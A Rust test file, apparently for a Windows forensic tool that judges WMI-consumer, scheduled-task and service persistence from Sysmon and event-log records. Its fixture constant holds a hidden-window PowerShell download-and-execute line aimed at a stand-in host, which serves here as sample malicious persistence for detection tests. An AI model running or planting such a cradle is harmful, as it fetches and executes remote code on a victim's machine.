use super::*;
use crate::assessment::{Assessment, Severity};
use crate::test_support::records_of;
use evidence::{Location, Record, RecordData, ScheduledTask, Source, TaskAction, WmiObject};
use intel::Intel;

const CLASS: &str = "CommandLineEventConsumer";
const BAD: &str =
    "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')";

fn event(provider: &str, number: u32, second: u32, data: &[(&str, &str)]) -> RecordData {
    RecordData::Event(Event {
        channel: String::new(),
        provider: provider.to_owned(),
        event_id: number,
        record_id: u64::from(second),
        time: format!("2022-03-10T21:08:{second:02}Z").parse().unwrap(),
        computer: "PC".to_owned(),
        data: data.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
    })
}

/// What Sysmon writes of a consumer, and behind it the object that the parser makes of a creation.
fn consumer(operation: &str, second: u32) -> Vec<RecordData> {
    let data = [
        ("Operation", operation),
        ("Name", " \"BotConsumer23\""),
        ("Type", "Command Line"),
        ("Destination", " \"x\""),
    ];
    let mut records = vec![event("Microsoft-Windows-Sysmon", 20, second, &data)];
    records.extend((operation == "Created").then(|| RecordData::WmiObject(bot())));
    records
}

fn bot() -> WmiObject {
    crate::test_support::object(CLASS, &[("Name", "BotConsumer23"), ("CommandLineTemplate", BAD)])
}

fn task(number: u32, second: u32) -> Vec<RecordData> {
    let security = "Microsoft-Windows-Security-Auditing";
    let mut records = vec![event(security, number, second, &[("TaskName", r"\Gone")])];
    let action = TaskAction::Exec { command: BAD.to_owned(), arguments: None, working_directory: None };
    let task = ScheduledTask { path: r"\Gone".to_owned(), actions: vec![action], ..ScheduledTask::default() };
    records.extend((number == 4698).then_some(RecordData::Task(task)));
    records
}

/// What a log says, and what the machine shows besides. An event and what is made of it lie at one place.
fn assess(log: Vec<Vec<RecordData>>, present: Vec<RecordData>) -> Assessment {
    let mut evidence = records_of(present);
    evidence.sources.push(Source {
        path: "log.evtx".to_owned(),
        member: None,
        sha256: None,
        length: 1,
        format: "event-log".to_owned(),
    });
    for (at, records) in (1..).zip(log) {
        let provenance = Provenance { source: 1, location: Location::Record(at) };
        evidence.records.extend(records.into_iter().map(|data| Record { provenance, data }));
    }
    crate::assess(&evidence, Intel::builtin())
}

/// The severity of the finding about what logs tell of, and the reason that stands first.
fn told(assessment: &Assessment) -> (Severity, String) {
    let finding = assessment.findings.iter().find(|finding| finding.family.is_none()).unwrap();
    let reason = finding.reasons.iter().find(|reason| reason.id.starts_with("reason-history")).unwrap();
    (finding.severity, reason.id.clone())
}

fn fates(assessment: &Assessment) -> Vec<Option<&str>> {
    assessment.timeline.iter().map(|entry| entry.fate.as_ref().map(|fate| fate.id.as_str())).collect()
}

#[test]
fn what_was_removed_is_in_the_past() {
    let assessment = assess(vec![consumer("Created", 5), consumer("Deleted", 36)], Vec::new());
    assert_eq!(told(&assessment), (Severity::Medium, m::REASON_HISTORY_REMOVED.id.to_owned()));
    assert_eq!(fates(&assessment), [Some(m::FATE_REMOVED.id), None]);
    let fate = assessment.timeline[0].fate.as_ref().unwrap();
    assert_eq!(fate.args[1].1, evidence::Arg::Number(31), "{fate:?}");
    let assessment = assess(vec![task(4698, 1), task(4699, 2)], Vec::new());
    assert_eq!(told(&assessment), (Severity::Medium, m::REASON_HISTORY_REMOVED.id.to_owned()));
    assert_eq!(fates(&assessment), [Some(m::FATE_REMOVED.id), None]);
}

#[test]
fn a_filter_whose_name_holds_a_line_feed_is_paired_with_its_removal() {
    let log = |operation: &str, second| {
        let data =
            [("Operation", operation), ("Name", r#" "a\n\t\"b\\n""#), ("Query", r#" "select * from X""#)];
        event("Microsoft-Windows-Sysmon", 19, second, &data)
    };
    let fields = [("Name", "a\n\t\"b\\n"), ("Query", "select * from X")];
    let filter = RecordData::WmiObject(crate::test_support::object("__EventFilter", &fields));
    let assessment = assess(vec![vec![log("Created", 1), filter], vec![log("Deleted", 2)]], Vec::new());
    assert_eq!(told(&assessment).1, m::REASON_HISTORY_REMOVED.id);
    assert_eq!(fates(&assessment), [Some(m::FATE_REMOVED.id), None]);
}

#[test]
fn what_came_back_is_not() {
    let log = vec![consumer("Created", 1), consumer("Deleted", 2), consumer("Created", 3)];
    let assessment = assess(log, Vec::new());
    assert_eq!(told(&assessment), (Severity::High, m::REASON_HISTORY.id.to_owned()));
    assert_eq!(fates(&assessment), [Some(m::FATE_REMOVED.id), None, Some(m::FATE_UNKNOWN.id)]);
    let assessment = assess(vec![task(4698, 1), task(4699, 2), task(4698, 3)], Vec::new());
    assert_eq!(told(&assessment), (Severity::High, m::REASON_HISTORY.id.to_owned()));
}

#[test]
fn one_removal_does_not_stand_for_two_of_a_name() {
    let log = vec![consumer("Created", 1), consumer("Created", 2), consumer("Deleted", 3)];
    let assessment = assess(log, Vec::new());
    assert_eq!(told(&assessment), (Severity::High, m::REASON_HISTORY.id.to_owned()));
    let other = [("Operation", "Deleted"), ("Name", "\"BotConsumer23\""), ("Type", "Script")];
    let other = vec![event("Microsoft-Windows-Sysmon", 20, 4, &other)];
    let assessment = assess(vec![consumer("Created", 1), other], Vec::new());
    assert_eq!(told(&assessment).0, Severity::High, "a script of the same name is another consumer");
}

#[test]
fn what_is_still_there_is_said_to_be() {
    let assessment = assess(vec![consumer("Created", 30)], vec![RecordData::WmiObject(bot())]);
    assert_eq!(told(&assessment), (Severity::High, m::REASON_HISTORY_PRESENT.id.to_owned()));
    assert_eq!(fates(&assessment), [Some(m::FATE_PRESENT.id)]);
    assert_eq!(assessment.findings.len(), 1);
}

#[test]
fn a_registered_binding_is_known_by_its_parts() {
    let data = [("ESS", "F"), ("CONSUMER", "ActiveScriptEventConsumer=\"KillProcess\"")];
    let registered = vec![event("Microsoft-Windows-WMI-Activity", 5861, 30, &data)];
    let binding = crate::test_support::object(
        "__FilterToConsumerBinding",
        &[
            ("Filter", "__EventFilter.Name=\"f\""),
            ("Consumer", r#"\\.\root\subscription:ActiveScriptEventConsumer.Name="killprocess""#),
        ],
    );
    let there = assess(vec![registered.clone()], vec![RecordData::WmiObject(binding)]);
    assert_eq!(fates(&there), [Some(m::FATE_PRESENT.id)]);
    let unknown = assess(vec![registered], Vec::new());
    assert_eq!(fates(&unknown), [Some(m::FATE_UNKNOWN.id)]);
}

#[test]
fn a_service_goes_by_two_names() {
    let data = [("ServiceName", "Helper Service"), ("ImagePath", r"C:\Program Files\x\x.exe")];
    let installed = vec![event("Service Control Manager", 7045, 1, &data)];
    let service = |display: &str| {
        RecordData::Service(evidence::Service {
            name: "hlp".to_owned(),
            display_name: Some(display.to_owned()),
            ..evidence::Service::default()
        })
    };
    assert_eq!(
        fates(&assess(vec![installed.clone()], vec![service("Helper service")])),
        [Some(m::FATE_PRESENT.id)]
    );
    assert_eq!(fates(&assess(vec![installed], vec![service("@x.dll,-1")])), [Some(m::FATE_UNKNOWN.id)]);
}

#[test]
fn event_104_names_the_log_that_was_cleared() {
    let data = [("Channel", "Microsoft-Windows-WMI-Activity/Operational"), ("SubjectUserName", "me")];
    let assessment = assess(vec![vec![event("Microsoft-Windows-Eventlog", 104, 1, &data)]], Vec::new());
    let [entry] = &assessment.timeline[..] else { panic!("{:?}", assessment.timeline) };
    assert_eq!(entry.what.args[0].1, evidence::Arg::from("Microsoft-Windows-WMI-Activity/Operational"));
}
